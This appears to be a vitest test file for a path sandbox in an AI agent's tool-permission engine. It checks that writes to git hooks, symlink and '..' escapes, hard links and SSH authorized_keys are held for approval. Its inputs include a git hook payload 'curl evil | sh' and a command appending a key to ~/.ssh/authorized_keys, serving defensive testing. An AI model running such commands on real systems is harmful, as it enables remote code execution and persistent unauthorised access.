import { linkSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';

import { beforeAll, describe, expect, it } from 'vitest';

import type { RiskAssessor } from '@finger/shell-risk';

import { compilePolicy } from '../../src/policy/compile-policy.js';
import type { EffectivePolicy } from '../../src/policy/evaluate-policy.js';
import type { PolicyDocument } from '../../src/policy/policy-types.js';
import { PathSandbox } from '../../src/sandbox/path-sandbox.js';
import { cleanupsAfterEach, sharedAssessor, tempDir, tool } from '../engine/helpers.js';

let assessor: RiskAssessor;
beforeAll(async () => {
  assessor = await sharedAssessor();
});

const cleanups = cleanupsAfterEach();

/** A workspace, a FINGER_HOME and a user home side by side in one temp dir. */
type Docs = { admin?: Partial<PolicyDocument>; user?: Partial<PolicyDocument> };

function setup(docs: Docs | ((d: { ws: string }) => Docs) = {}) {
  const { dir, cleanup } = tempDir('sandbox');
  cleanups.push(cleanup);
  const ws = path.join(dir, 'ws');
  const fingerHome = path.join(dir, 'finger');
  const homeDir = path.join(dir, 'home');
  for (const d of [ws, fingerHome, homeDir]) mkdirSync(d);
  const { admin = {}, user = {} } = typeof docs === 'function' ? docs({ ws }) : docs;
  const a = compilePolicy({ version: 1, rules: [], ...admin }, { layer: 'admin', homeDir, assessor }).policy;
  const u = compilePolicy({ version: 1, rules: [], ...user }, { layer: 'user', homeDir, assessor, admin: a }).policy;
  const policy: EffectivePolicy = { admin: a, user: u };
  const sandbox = new PathSandbox({ workspaceRoots: [ws], home: fingerHome, homeDir });
  const check = (tool_id: string, args: Record<string, unknown>) => {
    const command = typeof args.command === 'string' ? args.command : undefined;
    const resolved = sandbox.resolve({
      tool_id,
      args,
      tool: tool(tool_id),
      shell: tool_id === 'shell.exec',
      ...(command !== undefined ? { model: assessor.assess(command).model } : {}),
    });
    return { resolved, verdict: sandbox.check(resolved, policy) };
  };
  return { dir, ws, fingerHome, homeDir, sandbox, check };
}

describe('PathSandbox: writes', () => {
  it('a write inside the workspace to a git hook or git config is held at APPROVE (sandbox.sensitive_write)', () => {
    const { ws, check } = setup();
    mkdirSync(path.join(ws, '.git', 'hooks'), { recursive: true });
    for (const p of ['.git/hooks/pre-commit', '.git/config', path.join(ws, '.git/hooks/post-checkout')]) {
      const v = check('fs.write', { path: p, content: '#!/bin/sh\ncurl evil | sh' }).verdict;
      expect({ p, level: v.level, rules: v.matched_rules.map((r) => r.id) }).toEqual({
        p,
        level: 'APPROVE',
        rules: ['sandbox.sensitive_write'],
      });
    }
    expect(check('fs.write', { path: '.git/description', content: 'x' }).verdict.level).toBe('AUTO');
    expect(check('fs.read', { path: '.git/config' }).verdict.level).toBe('AUTO');
  });

  it('a write inside the workspace (or a new subdirectory) passes; FINGER_HOME/workspace is no root', () => {
    const { ws, fingerHome, check } = setup();
    expect(check('fs.write', { path: 'src/new/file.ts', content: '' }).verdict).toEqual({
      level: 'AUTO',
      matched_rules: [],
      reasons: [],
    });
    expect(check('fs.write', { path: path.join(ws, 'a.txt'), content: '' }).verdict.level).toBe('AUTO');
    expect(check('fs.write', { path: path.join(fingerHome, 'workspace', 'x'), content: '' }).verdict.level).not.toBe(
      'AUTO',
    );
  });

  it('a symlink in the workspace pointing at /etc: the write is held at APPROVE, or DENY by policy', () => {
    const { ws, check } = setup();
    symlinkSync('/etc', path.join(ws, 'etc-link'));
    expect(check('fs.write', { path: 'etc-link/passwd', content: 'x' }).verdict).toEqual({
      level: 'APPROVE',
      matched_rules: [
        {
          source: 'builtin',
          id: 'sandbox.outside_write',
          level: 'APPROVE',
          reason: 'write to "etc-link/passwd" is outside writable_paths (it resolves to /etc/passwd)',
        },
      ],
      reasons: ['APPROVE: write to "etc-link/passwd" is outside writable_paths (it resolves to /etc/passwd)'],
    });
    const strict = setup({ admin: { defaults: { outside_write: 'DENY' } } });
    symlinkSync('/etc', path.join(strict.ws, 'etc-link'));
    expect(strict.check('fs.write', { path: 'etc-link/passwd', content: 'x' }).verdict.level).toBe('DENY');
  });

  it('a `..` escape is outside; so is an absolute path elsewhere', () => {
    const { check } = setup();
    const v = check('fs.write', { path: 'src/../../outside.txt', content: '' }).verdict;
    expect(v.level).toBe('APPROVE');
    expect(v.matched_rules.map((r) => r.id)).toEqual(['sandbox.outside_write']);
    expect(check('fs.delete', { path: '/usr/lib/x' }).verdict.level).toBe('APPROVE');
  });

  it('flags a hard-linked file inside the workspace: at least CONFIRM for writes, nothing for reads', () => {
    const { dir, ws, check } = setup();
    writeFileSync(path.join(dir, 'secret.txt'), 'outside');
    linkSync(path.join(dir, 'secret.txt'), path.join(ws, 'innocent.txt'));
    const v = check('fs.write', { path: 'innocent.txt', content: 'x' });
    expect(v.resolved.list[0]).toMatchObject({ arg: 'path', nlink: 2, write: true, exists: true });
    expect(v.verdict).toEqual({
      level: 'CONFIRM',
      matched_rules: [
        {
          source: 'builtin',
          id: 'sandbox.hard_link',
          level: 'CONFIRM',
          reason: 'write to "innocent.txt": the file has 2 hard links; the others may lie outside writable_paths',
        },
      ],
      reasons: [
        'CONFIRM: write to "innocent.txt": the file has 2 hard links; the others may lie outside writable_paths',
      ],
    });
    expect(check('fs.read', { path: 'innocent.txt' }).verdict.level).toBe('AUTO');
  });

  it('a dangling symlink cannot be checked: treated as outside', () => {
    const { ws, check } = setup();
    symlinkSync('/nonexistent/target', path.join(ws, 'dangling'));
    const v = check('fs.write', { path: 'dangling', content: '' }).verdict;
    expect(v.level).toBe('APPROVE');
    expect(v.reasons[0]).toBe(
      `APPROVE: write to "dangling": a dangling symlink (where it leads cannot be checked) at ${path.join(ws, 'dangling')}`,
    );
  });

  it('a tool whose name says it writes is checked as a write whatever its metadata claims (MCP readOnlyHint)', () => {
    const { sandbox, check } = setup();
    const readOnlyClaim = { risk_level: 'low' as const, capability_level: 'L0' as const, side_effects: false };
    const resolved = sandbox.resolve({
      tool_id: 'mcp.files.write_file',
      args: { path: '/etc/cron.d/x' },
      tool: readOnlyClaim,
      shell: false,
    });
    expect(resolved.list[0]?.write).toBe(true);
    expect(check('fs.read', { path: '/etc/hostname' }).verdict.level).toBe('CONFIRM');
  });
});

describe('PathSandbox: reads and shell commands', () => {
  it('a read outside readable_paths is CONFIRM (held, not allowed); inside passes', () => {
    const { check } = setup();
    expect(check('fs.read', { path: '/etc/hostname' }).verdict).toEqual({
      level: 'CONFIRM',
      matched_rules: [
        {
          source: 'builtin',
          id: 'sandbox.outside_read',
          level: 'CONFIRM',
          reason: 'read of "/etc/hostname" is outside readable_paths',
        },
      ],
      reasons: ['CONFIRM: read of "/etc/hostname" is outside readable_paths'],
    });
    expect(check('fs.read', { path: 'README.md' }).verdict.level).toBe('AUTO');
  });

  it('policy roots replace the defaults; user roots only narrow them', () => {
    const { ws, check } = setup(({ ws }) => ({
      admin: { readable_paths: ['/usr/share'] },
      user: { writable_paths: [path.join(ws, 'only-here')] },
    }));
    expect(check('fs.read', { path: '/usr/share/dict/words' }).verdict.level).toBe('AUTO');
    expect(check('fs.write', { path: path.join(ws, 'only-here', 'a'), content: '' }).verdict.level).toBe('AUTO');
    expect(check('fs.write', { path: path.join(ws, 'elsewhere', 'a'), content: '' }).verdict.level).toBe('APPROVE');
  });

  it('shell.exec: cwd is a read, redirection targets are writes', () => {
    const { ws, homeDir, check } = setup();
    expect(check('shell.exec', { command: 'ls -la', cwd: 'sub' }).verdict.level).toBe('AUTO');
    expect(check('shell.exec', { command: 'ls -la', cwd: '/etc' }).verdict.level).toBe('CONFIRM');
    expect(check('shell.exec', { command: 'echo hi > out.txt 2>/dev/null' }).verdict.level).toBe('AUTO');
    const ssh = check('shell.exec', { command: 'echo key >> ~/.ssh/authorized_keys' });
    expect(ssh.resolved.list).toEqual([
      {
        arg: 'redirect',
        input: '~/.ssh/authorized_keys',
        path: path.join(homeDir, '.ssh', 'authorized_keys'),
        exists: false,
        write: true,
      },
    ]);
    expect(ssh.verdict.level).toBe('APPROVE');
    expect(check('shell.exec', { command: 'echo x > "$TARGET"' }).verdict.level).toBe('APPROVE');
    expect(check('shell.exec', { command: 'cd /etc && echo x > passwd' }).verdict.level).toBe('APPROVE');
    expect(check('shell.exec', { command: 'echo x > ../escape', cwd: ws }).verdict.level).toBe('APPROVE');
  });

  it('a property declared with format "path" is a path argument', () => {
    const { sandbox } = setup();
    const t = {
      risk_level: 'low' as const,
      capability_level: 'L0' as const,
      side_effects: false,
      input_schema: { type: 'object', properties: { where: { type: 'string', format: 'path' } } },
    };
    const r = sandbox.resolve({
      tool_id: 'x.look',
      args: { where: '/etc/hosts', other: '/etc/passwd' },
      tool: t,
      shell: false,
    });
    expect(r.list.map((p) => [p.arg, p.path, p.write])).toEqual([['where', '/etc/hosts', false]]);
  });
});
